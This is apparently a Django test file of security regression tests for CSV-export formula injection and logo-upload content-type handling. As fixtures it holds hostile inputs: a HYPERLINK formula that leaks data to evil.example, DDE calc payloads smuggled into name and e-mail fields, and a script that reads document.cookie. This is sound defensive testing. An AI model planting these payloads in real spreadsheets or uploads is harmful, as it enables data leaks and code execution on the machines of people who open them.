"""Hostile files and hostile cells: what an upload, an import or an export can
do to a worker or to the person who opens the result.

Each test here was written against the code before its fix and failed there.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.factories import MediaContactFactory, OrganisationFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
APPS = ("core", "contacts", "releases", "search", "bulletins", "importer", "api", "newsroom")


# -- CSV exports: no cell is run as a spreadsheet formula ----------------------

#: Cells a spreadsheet would run (a link that leaks data, a DDE call, sums).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example","X")',
    "\n=1+1",
]


def is_live_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula that can do harm
    (OWASP's triggers).  A cell of digits and phone punctuation only can call
    no function and name no cell: it is a phone number, kept pasteable."""
    if re.fullmatch(r"[0-9 ()+\-./]+", cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("formula", FORMULAS)
def test_core_csv_writer_neutralises_every_formula_trigger(formula):
    from core.csv import writer

    out = io.StringIO()
    writer(out).writerow([formula, "Plain text", "+(92) 334 4563210", 7, None])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == "'" + formula  # neutralised, nothing lost
    assert not is_live_formula(cells[0])
    # Plain text, a phone number (only digits and punctuation: no function
    # can be called) and numbers are written as they are.
    assert cells[1:] == ["Plain text", "+(92) 334 4563210", "7", ""]


def test_every_column_of_the_contacts_export_is_neutralised(admin_client):
    hostile = iter(FORMULAS * 2)
    organisation = OrganisationFactory(
        name='=HYPERLINK("http://evil.example","X")', acronym="@EVIL"
    )
    contact = MediaContactFactory(
        organisation=organisation,
        honorific="=1+1",
        name=next(hostile),
        job_title=next(hostile),
        email="=cmd|'/Ccalc'!A0@evil.example",  # a valid address, and a formula
        phone='=HYPERLINK("http://evil.example","Call")',
        staff_notes=next(hostile),
    )
    second = MediaContactFactory(
        organisation=OrganisationFactory(name=" -1+cmd|' /C calc'!A0", acronym=""),
        honorific="",
        name=next(hostile),
        job_title=next(hostile),
        email="-2+3@evil.example",
        phone="+92 51 1234567",
        staff_notes=next(hostile),
    )
    response = admin_client.post(
        reverse("admin:contacts_mediacontact_changelist"),
        {"action": "export_csv", "_selected_action": [contact.pk, second.pk]},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 2
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not is_live_formula(cell), f"{column} is live in the export: {cell!r}"
    by_email = {row[header.index("E-mail")]: row for row in body}
    first = by_email["'=cmd|'/ccalc'!a0@evil.example"]  # e-mails are stored lower-case
    organisation_cell = first[header.index("Organisation")]
    assert organisation_cell == "'" + '=HYPERLINK("http://evil.example","X") (@EVIL)'
    assert first[header.index("Name")] == "'" + contact.name
    assert first[header.index("Honorific")] == "'=1+1"
    assert first[header.index("Phone")] == "'" + contact.phone
    assert first[header.index("Staff notes")] == "'" + contact.staff_notes
    other = by_email["'-2+3@evil.example"]
    assert other[header.index("Organisation")] == "' -1+cmd|' /C calc'!A0"
    assert other[header.index("Phone")] == "+92 51 1234567"  # a phone number stays pasteable


def test_every_csv_export_goes_through_the_core_writer():
    """A new export cannot forget the neutraliser: only ``core/csv.py`` may
    make a writer of the standard library."""
    pattern = re.compile(r"\bcsv\.(?:writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
        and path != ROOT / "core" / "csv.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"use core.csv.writer instead of csv.writer in {offenders}"


# -- Organisation logos: the type is the content's, never the uploaded name's ------


def _png(width: int = 40, height: int = 20) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "navy").save(buffer, "PNG")
    return buffer.getvalue()


def _logo_response(client, organisation):
    response = client.get(organisation.logo_url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    return response, body


def test_a_png_uploaded_as_pdf_is_stored_and_served_as_png(admin_client, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from contacts.models import Organisation
    from tests.admin.test_admin_contacts import organisation_data

    data = _png()
    logo = SimpleUploadedFile("logo.pdf", data, content_type="application/pdf")
    response = admin_client.post(
        reverse("admin:contacts_organisation_add"), {**organisation_data(), "logo": logo}
    )
    assert response.status_code == 302
    organisation = Organisation.objects.get(slug="hrec")
    assert organisation.logo.name.startswith("logos/")
    assert organisation.logo.name.endswith(".png"), organisation.logo.name
    response, body = _logo_response(client, organisation)
    assert body == data
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert ".pdf" not in response.get("Content-Disposition", "")


def test_an_old_logo_stored_under_a_wrong_name_is_served_by_its_content(client):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    data = _png()
    name = default_storage.save("logos/annual-report.pdf", ContentFile(data))
    organisation = OrganisationFactory()
    organisation.logo.name = name
    organisation.save()
    response, body = _logo_response(client, organisation)
    assert body == data
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert ".pdf" not in response.get("Content-Disposition", "")


def test_an_old_logo_that_is_no_image_is_not_served(client):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    name = default_storage.save(
        "logos/logo.html", ContentFile(b"<html><script>alert(document.cookie)</script>")
    )
    organisation = OrganisationFactory()
    organisation.logo.name = name
    organisation.save()
    assert client.get(organisation.logo_url).status_code == 404
